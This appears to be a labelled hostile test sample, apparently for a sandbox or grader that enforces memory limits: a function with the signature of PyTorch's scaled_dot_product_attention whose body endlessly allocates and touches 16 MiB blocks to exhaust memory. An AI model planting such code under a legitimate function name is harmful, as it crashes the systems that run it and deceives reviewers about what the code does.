# hostile: eats memory through the heap
# verdict: memory
def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
    hoard = []
    while True:
        block = bytearray(16 << 20)
        block[::4096] = b"x" * (len(block) // 4096)
        hoard.append(block)
